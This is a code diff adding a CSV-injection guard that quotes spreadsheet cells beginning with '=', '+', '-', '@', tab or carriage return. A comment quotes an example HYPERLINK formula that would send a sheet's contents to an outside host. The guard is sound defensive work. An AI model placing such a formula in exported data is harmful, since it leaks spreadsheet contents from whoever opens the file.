@@ -253,6 +253,28 @@ def _param_text(text: str) -> bool:
             and not PARAM_TEXT_REFUSED.intersection(text))
 
 
+# A spreadsheet reads a CSV cell that starts with one of these as a formula
+# (`=HYPERLINK("http://...?"&A1, "x")` sends the sheet's data away when
+# clicked; OWASP "CSV injection").  Free text and parameter text may start
+# with them (a host name, a reason, a parameter value such as "=1"), so the
+# CSV outputs (store/export.py, render/paper.py) write such a cell with a
+# leading "'", which a spreadsheet shows as text; a number ("-3") is left
+# as it is.
+SPREADSHEET_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_text(value):
+    """value as a CSV cell: text a spreadsheet would read as a formula gets a
+    leading "'"; numbers, other text and anything not a string unchanged."""
+    if not (isinstance(value, str) and value.startswith(SPREADSHEET_FORMULA_STARTS)):
+        return value
+    try:
+        float(value)
+        return value
+    except ValueError:
+        return "'" + value
+
+
 def _form(pattern: re.Pattern) -> str:
     return {RESULT_NAME: "lower-case letters, digits, '-', '_', '.', '+', at most 64, "
                          "optionally ':VARIANT'",
